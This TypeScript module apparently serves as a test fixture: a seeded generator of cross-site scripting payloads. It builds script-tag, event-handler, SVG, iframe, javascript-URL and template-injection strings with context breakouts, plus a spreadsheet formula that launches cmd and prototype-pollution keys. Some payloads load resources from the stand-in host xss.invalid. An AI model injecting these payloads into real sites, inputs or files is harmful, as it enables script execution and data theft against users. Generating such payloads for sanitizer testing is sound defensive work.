import { seededRandom } from './random.ts';

/** What a payload does if it ever runs: marks the page, asks another host, opens a dialog. */
const acts = (n: number) => [
  `window.__xss=${n}`,
  `fetch('//xss.invalid/${n}')`,
  `alert(${n})`,
  `top['__x'+'ss']=${n}`
];

type Shape = (code: string, n: number) => string;

/** Ways in which text has become code, in one program or another. */
const SHAPES: Shape[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt\n>${code}</sCrIpT >`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (_, n) => `<script src=//xss.invalid/${n}.js></script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img/src='x'/onerror='${code.replaceAll("'", '&#39;')}'>`,
  (_, n) => `<img src=//xss.invalid/${n}.png>`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (_, n) => `<iframe src=//xss.invalid/${n}></iframe>`,
  (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
  (_, n) => `<embed src=//xss.invalid/${n}.svg>`,
  (code) => `<details open ontoggle="${code}">x</details>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<body onpageshow="${code}">`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<template><img src=x onerror="${code}"></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror='${code}'>">`,
  (_, n) => `<meta http-equiv=refresh content="0;url=//xss.invalid/${n}">`,
  (_, n) => `<base href=//xss.invalid/${n}/>`,
  (_, n) => `<link rel=stylesheet href=//xss.invalid/${n}.css>`,
  (_, n) => `<style>@import '//xss.invalid/${n}.css';*{background:url(//xss.invalid/${n})}</style>`,
  (_, n) => `red;background:url(//xss.invalid/${n})`,
  (code) => `javascript:${code}`,
  (code) => `\tjAvAsCrIpT\n:${code}//`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `[a link](javascript:${code})`,
  (_, n) => `![a picture](//xss.invalid/${n}.png)`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor("${code}")()}}`,
  (code) => `{@html "<img src=x onerror='${code}'>"}`,
  (code) => `#{${code}}`,
  (code) => `=cmd|' /C calc'!A0 ${code}`,
  () => '__proto__',
  () => 'constructor.prototype.polluted',
  (code) => `\u202e<img src=x onerror="${code}">\u2066`,
  (code) => `\u0000<img src=x\u0000onerror="${code}">`,
  (code) => `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(code)}%3E`,
  (code) => `&lt;img src=x onerror=&quot;${code}&quot;&gt;`,
  (code) => `${'A'.repeat(3000)}<img src=x onerror="${code}">`
];

/** Ends of whatever the text may stand in. */
const BREAKOUTS = [
  '',
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '`}\n',
  "');",
  '"}]}',
  '\\"'
];

/** `count` different texts that want to be code; the same for the same seed, and all shapes before any again. */
export function xssPayloads(count: number, seed: number): string[] {
  const random = seededRandom(seed);
  const pick = <T>(from: readonly T[]) => from[Math.floor(random() * from.length)]!;
  const offset = Math.floor(random() * SHAPES.length);
  const payloads = new Set<string>();
  for (let n = 0; payloads.size < count; n++) {
    const shape = SHAPES[(offset + n) % SHAPES.length]!;
    payloads.add(`${pick(BREAKOUTS)}${shape(pick(acts(n)), n)}`);
  }
  return [...payloads];
}
